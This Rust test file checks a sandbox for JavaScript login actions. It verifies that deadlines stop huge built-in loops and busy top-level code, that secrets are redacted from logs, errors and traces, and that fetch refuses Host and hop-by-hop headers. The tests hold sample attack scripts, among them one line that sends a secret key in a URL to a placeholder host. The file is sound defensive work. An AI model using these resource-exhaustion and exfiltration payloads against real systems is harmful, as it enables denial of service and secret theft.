//! Attacks from inside a JS action, each class with several variants: built-ins whose C loops
//! ignore the CPU deadline, top-level module code without a deadline, secrets leaking into
//! logs and traces, and `fetch` headers that reach other virtual hosts.

mod common;

use std::io::{Read, Write};
use std::sync::Arc;
use std::time::{Duration, Instant};

use idpipe::actions::js::{FetchPolicy, JsAction, JsConfig};
use idpipe::pipeline::executor::{Limits, Status};
use idpipe::pipeline::watch::ActionWatch;
use idpipe::pipeline::{Event, Executor, Services, Trigger};
use serde_json::{Value, json};

fn inline(name: &str, src: &str, config: JsConfig) -> JsAction {
    JsAction::from_source(name, &format!("{name}.js"), src, config).expect("compiles")
}

fn executor(actions: Vec<JsAction>, timeout: Duration) -> Executor {
    let mut ex = Executor::new(Services {
        limits: Limits {
            action_timeout: timeout,
            ..Default::default()
        },
        ..Default::default()
    });
    for a in actions {
        ex.add(Trigger::PostLogin, Arc::new(a));
    }
    ex
}

fn error_of(st: &idpipe::pipeline::TransactionState) -> String {
    st.outcome.trace.first().and_then(|t| t.error.clone()).unwrap_or_default()
}

#[test]
fn built_in_loops_over_huge_lengths_stop_at_once() {
    let cases = [
        "Array(1e9).join('x')",
        "Array(1e9).join('')",
        "Array(1e9).toString()",
        "String(Array(1e9))",
        "`${Array(1e9)}`",
        "Array(1e9).reverse()",
        "[].concat(Array(1e9))",
        "Array(1e9).slice()",
        "Array(1e9).forEach(() => 0)",
        "Array(1e9).sort()",
        "Array.prototype.join.call({ length: 1e9 }, '')",
        "Array.prototype.lastIndexOf.call({ length: 2 ** 40 }, 1)",
        "Array.from({ length: 1e9 })",
    ];
    for expr in cases {
        let src =
            format!("exports.onExecutePostLogin = async (event, api) => {{ const r = {expr}; api.idToken.setCustomClaim('r', 1); }};");
        let ex = executor(vec![inline("loop", &src, JsConfig::default())], Duration::from_secs(2));
        let started = Instant::now();
        let st = ex.start(Trigger::PostLogin, Event::default());
        let took = started.elapsed();
        assert_eq!(st.status(), Status::Failed, "{expr}");
        assert!(took < Duration::from_millis(1500), "{expr}: {took:?}");
        assert!(error_of(&st).contains("RangeError"), "{expr}: {}", error_of(&st));
    }
    // Real arrays still work.
    let src = "exports.onExecutePostLogin = async (event, api) => { const a = Array.from({ length: 5 }, (_, i) => i); api.idToken.setCustomClaim('r', [a.join('-'), [1, 2].concat([3]).length, a.slice(1, 3), String([1, [2, 3]])]); };";
    let st = executor(vec![inline("ok", src, JsConfig::default())], Duration::from_secs(2)).start(Trigger::PostLogin, Event::default());
    assert_eq!(
        st.outcome.id_token_claims.get("r"),
        Some(&json!(["0-1-2-3-4", 3, [1, 2], "1,2,3"])),
        "{:?}",
        st.outcome.trace
    );
}

#[test]
fn the_running_action_reports_its_deadline_to_the_watch_of_its_thread() {
    // One C loop long enough to outlast a short deadline (no interrupt check inside it).
    let src = "exports.onExecutePostLogin = async (event, api) => { for (let i = 0; i < 3; i++) Array(16000000).join(''); api.idToken.setCustomClaim('late', 1); };";
    let deadline = Duration::from_millis(40);
    let ex = Arc::new(executor(vec![inline("runaway", src, JsConfig::default())], deadline));
    let watch = Arc::new(ActionWatch::default());
    assert!(watch.deadline().is_none());
    let (w, e) = (watch.clone(), ex.clone());
    let started = Instant::now();
    let runner = std::thread::spawn(move || {
        let _installed = ActionWatch::install(w);
        e.start(Trigger::PostLogin, Event::default())
    });
    // A watchdog sees the deadline and, past it, that the action is overdue while it still runs.
    while watch.deadline().is_none() {
        assert!(started.elapsed() < Duration::from_secs(2), "the deadline was never reported");
        std::thread::sleep(Duration::from_millis(1));
    }
    let reported = watch.deadline().expect("deadline");
    assert!(reported <= Instant::now() + deadline);
    std::thread::sleep(deadline + Duration::from_millis(60));
    assert!(watch.overdue(Duration::from_millis(50)), "still running past its deadline");
    let st = runner.join().expect("runner");
    assert_eq!(st.status(), Status::Failed, "the interrupt fails it once the loop returns");
    assert!(watch.deadline().is_none(), "cleared when the action ended");
    // Without a watch installed nothing is reported anywhere.
    let other = ActionWatch::default();
    executor(
        vec![inline("quick", "exports.onExecutePostLogin = async () => {};", JsConfig::default())],
        deadline,
    )
    .start(Trigger::PostLogin, Event::default());
    assert!(other.deadline().is_none());
}

#[test]
fn top_level_module_code_has_a_deadline() {
    let busy = "const t = Date.now(); while (Date.now() - t < 20000) {}\nexports.onExecutePostLogin = async () => {};";
    let cfg = JsConfig {
        build_timeout: Duration::from_millis(200),
        ..Default::default()
    };
    let started = Instant::now();
    let e = JsAction::from_source("busy", "busy.js", busy, cfg).expect_err("refused at start-up");
    assert!(started.elapsed() < Duration::from_secs(2), "{:?}", started.elapsed());
    assert!(e.to_string().contains("top-level code did not finish"), "{e}");
    // A built-in loop at the top level is bounded like in a handler.
    let builtin = "const s = Array(1e9).join('x');\nexports.onExecutePostLogin = async () => {};";
    let started = Instant::now();
    assert!(JsAction::from_source("b", "b.js", builtin, JsConfig::default()).is_err());
    assert!(started.elapsed() < Duration::from_secs(2));
    // A module that is slow (but within the start-up limit) is built on the login path when the
    // pool is empty: the login's own deadline applies there.
    let slowish = "const t = Date.now(); while (Date.now() - t < 400) {}\nexports.onExecutePostLogin = async (event, api) => { api.idToken.setCustomClaim('ok', 1); };";
    let cfg = JsConfig {
        pool_size: 0,
        ..Default::default()
    };
    let ex = executor(vec![inline("slowish", slowish, cfg)], Duration::from_millis(100));
    let first = ex.start(Trigger::PostLogin, Event::default());
    assert_eq!(first.status(), Status::Completed, "the sandbox built at start-up");
    let started = Instant::now();
    let second = ex.start(Trigger::PostLogin, Event::default());
    assert!(started.elapsed() < Duration::from_millis(350), "{:?}", started.elapsed());
    assert_eq!(second.status(), Status::Failed);
    assert!(error_of(&second).contains("time limit"), "{}", error_of(&second));
}

#[test]
fn secrets_never_reach_console_lines_errors_or_the_trace() {
    let secret = "sk_live_5d41402abc4b2a76b9719d911017c592";
    let mut ev = Event::default();
    ev.secrets.insert("API_KEY".into(), Value::from(secret));
    ev.secrets.insert("SHORT".into(), Value::from("ab"));
    let scripts = [
        "exports.onExecutePostLogin = async (event, api) => { console.log('key', event.secrets.API_KEY); };",
        "exports.onExecutePostLogin = async (event, api) => { console.error({ nested: [event.secrets.API_KEY] }); };",
        "exports.onExecutePostLogin = async (event, api) => { throw new Error('failed with ' + event.secrets.API_KEY); };",
        "exports.onExecutePostLogin = async (event, api) => { return Promise.reject('raw ' + event.secrets.API_KEY); };",
        "exports.onExecutePostLogin = async (event, api) => { try { await fetch('https://blocked.example.com/?k=' + event.secrets.API_KEY); } catch (e) { console.warn(e.message); } };",
        "exports.onExecutePostLogin = async (event, api) => { api.samlResponse.setLifetimeInSeconds(event.secrets.API_KEY); };",
    ];
    for src in scripts {
        let st = executor(vec![inline("leaky", src, JsConfig::default())], Duration::from_secs(2)).start(Trigger::PostLogin, ev.clone());
        let trace = serde_json::to_string(&st.outcome.trace).expect("json");
        assert!(!trace.contains(secret), "{src}: {trace}");
        assert!(trace.contains("[redacted]"), "{src}: {trace}");
        let failure = serde_json::to_string(&st.outcome.failure).expect("json");
        assert!(!failure.contains(secret), "{failure}");
    }
}

#[test]
fn secrets_stay_out_of_the_server_log_and_the_cli_output() {
    let dir = tempfile::tempdir().expect("dir");
    let action = dir.path().join("leak.js");
    std::fs::write(
        &action,
        "exports.onExecutePostLogin = async (event, api) => { console.log('key=' + event.secrets.API_KEY); throw new Error('boom ' + event.secrets.API_KEY); };",
    )
    .expect("write");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_idpipe"))
        .args(["run", "--trigger", "post-login", "--event"])
        .arg(common::root().join("fixtures/events/post-login-typical.json"))
        .arg("--action")
        .arg(&action)
        .args(["--secret", "API_KEY=sk_test_0123456789abcdef"])
        .env("RUST_LOG", "debug")
        .output()
        .expect("runs");
    let all = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(all.contains("key=[redacted]"), "{all}");
    assert!(!all.contains("sk_test_0123456789abcdef"), "{all}");
}

/// A server that answers with the Host header it received.
fn echo_host(connections: usize) -> u16 {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in listener.incoming().take(connections) {
            let Ok(mut s) = stream else { continue };
            let mut buf = [0u8; 4096];
            let n = s.read(&mut buf).unwrap_or(0);
            let req = String::from_utf8_lossy(&buf[..n]).to_string();
            let host = req
                .lines()
                .find(|l| l.to_ascii_lowercase().starts_with("host:"))
                .unwrap_or_default()
                .to_string();
            let body = json!({ "host": host }).to_string();
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
                body.len(),
                body
            );
        }
    });
    port
}

#[test]
fn fetch_cannot_set_host_or_hop_by_hop_headers() {
    let port = echo_host(1);
    let cfg = JsConfig {
        fetch: FetchPolicy {
            allowed_hosts: vec![format!("127.0.0.1:{port}")],
            timeout: Some(Duration::from_secs(2)),
            max_body: None,
        },
        ..Default::default()
    };
    let refused = [
        "Host",
        "host",
        "HOST ",
        "Connection",
        "Transfer-Encoding",
        "Content-Length",
        "Proxy-Authorization",
        "X-Forwarded-For",
        "Upgrade",
        "TE",
    ];
    let tries: Vec<String> = refused
        .iter()
        .map(|h| format!("try {{ await fetch(url, {{ headers: {{ '{h}': 'internal.example' }} }}); out.push('sent'); }} catch (e) {{ out.push(e.message); }}"))
        .collect();
    let src = format!(
        "exports.onExecutePostLogin = async (event, api) => {{ const url = 'http://127.0.0.1:{port}/'; const out = []; {} const r = await fetch(url, {{ headers: {{ 'x-custom': 'fine' }} }}); out.push((await r.json()).host); api.idToken.setCustomClaim('out', out); }};",
        tries.join(" ")
    );
    let st = executor(vec![inline("hosty", &src, cfg)], Duration::from_secs(5)).start(Trigger::PostLogin, Event::default());
    assert_eq!(st.status(), Status::Completed, "{:?}", st.outcome.trace);
    let out = st
        .outcome
        .id_token_claims
        .get("out")
        .and_then(Value::as_array)
        .cloned()
        .expect("out");
    assert_eq!(out.len(), refused.len() + 1);
    for (h, msg) in refused.iter().zip(&out) {
        assert!(msg.as_str().is_some_and(|m| m.contains("cannot be set by an action")), "{h}: {msg}");
    }
    assert_eq!(
        out.last(),
        Some(&json!(format!("host: 127.0.0.1:{port}"))),
        "an ordinary header goes through"
    );
}
